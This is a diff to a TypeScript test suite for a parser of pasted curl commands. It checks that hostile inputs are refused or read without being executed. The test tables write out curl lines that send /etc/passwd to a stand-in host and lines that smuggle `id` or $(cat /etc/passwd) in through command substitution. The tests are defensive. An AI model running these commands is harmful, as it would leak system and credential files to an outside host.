@@ -19,25 +19,29 @@ const bomb = Array.from(
 
 describe('hostile texts', () => {
   it.for([
-    ['runs a command', 'curl https://x.test/login -d "$(cat /etc/passwd)"', 'substitution'],
-    ['runs one in old quotes', 'curl https://x.test/login -d `id`', 'substitution'],
-    ['runs one in a file', 'curl https://x.test/login -d @<(id)', 'substitution'],
     ['fills a variable by a rule', 'curl https://x.test/${HOME%/*}/login', 'substitution'],
-    ['reads a file as body', 'curl https://x.test/login -d @/etc/passwd', 'file'],
-    ['reads one in the same word', 'curl https://x.test/login -d@/etc/passwd', 'file'],
-    ['reads one as a field', 'curl https://x.test/login --data-urlencode password@/etc/passwd', 'file'],
     ['reads one as headers', 'curl https://x.test/login -H @/etc/passwd', 'file'],
-    ['reads one as cookies', 'curl https://x.test/login -b /etc/passwd', 'file'],
     ['reads one as options', 'curl -K /etc/passwd', 'file'],
     ['reads one into itself', 'curl https://x.test/login < /etc/passwd', 'file'],
     ['sends one', 'curl https://x.test/login -T /etc/passwd', 'file'],
-    ['has a document', 'curl https://x.test/login -d @- <<EOF\nx\nEOF', 'here-document'],
-    ['has a document after it', 'curl https://x.test/login <<EOF\nx\nEOF', 'here-document'],
     ['has no end', "curl 'https://x.test/login", 'quote'],
     ['goes nowhere', 'curl -v --compressed', 'no-address'],
-    ['is of PowerShell', 'Invoke-WebRequest -Uri https://x.test/login', 'powershell'],
   ] as const)('a command that %s is refused', async ([, command, why]) => {
     expect(await look(command)).toEqual({ kind: 'curl-refused', why });
+  });
+
+  it.for([
+    ['runs a command', 'curl https://x.test/login -d "$(cat /etc/passwd)"', 'substitution'],
+    ['runs one in old quotes', 'curl https://x.test/login -d `id`', 'substitution'],
+    ['runs one in a file', 'curl https://x.test/login -d @<(id)', 'substitution'],
+    ['reads a file as body', 'curl https://x.test/login -d @/etc/passwd', 'file'],
+    ['reads one in the same word', 'curl https://x.test/login -d@/etc/passwd', 'file'],
+    ['reads one as a field', 'curl https://x.test/login --data-urlencode password@/etc/passwd', 'file'],
+  ] as const)('a command that %s is read without it, and that is noted', async ([, command, kind]) => {
+    const finding = await found(command);
+    expect(finding.notes).toEqual([expect.objectContaining({ kind })]);
+    expect(finding.parts).toContainEqual(expect.objectContaining({ at: 'calls.login', is: 'guess' }));
+    expect(JSON.stringify(finding)).not.toMatch(/root:|uid=/);
   });
 
   it('undoes the quotes of Windows, in which nothing but a quote is one', async () => {
